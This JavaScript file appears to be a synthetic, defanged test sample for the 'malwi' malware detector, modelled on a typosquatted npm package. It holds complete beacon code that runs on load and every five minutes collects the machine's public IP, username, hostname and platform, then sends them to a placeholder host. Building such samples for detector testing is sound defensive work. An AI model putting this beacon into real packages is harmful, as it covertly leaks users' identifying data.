// SYNTHETIC, DEFANGED malwi validation sample - modelled on the electorn typosquat (2020, posted victim details to a public page); never run.
// Every few minutes: look up the public IP, and post IP, user and hostname to a public page.
const os = require('os');
const https = require('https');

function publicIp(cb) {
  https
    .get('https://ip-echo.example.invalid/', (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => cb(d.trim()));
    })
    .on('error', () => cb('unknown'));
}

function beacon() {
  publicIp((ip) => {
    const line = [new Date().toISOString(), ip, os.userInfo().username, os.hostname(), os.platform()].join(' | ');
    const body = JSON.stringify({ message: 'update', content: Buffer.from(line).toString('base64') });
    const req = https.request({ hostname: 'pages-api.example.invalid', path: '/repos/PLACEHOLDER_USER/PLACEHOLDER_USER.pages/contents/log.txt', method: 'PUT' });
    req.on('error', () => {});
    req.end(body);
  });
}

beacon();
setInterval(beacon, 5 * 60 * 1000).unref();
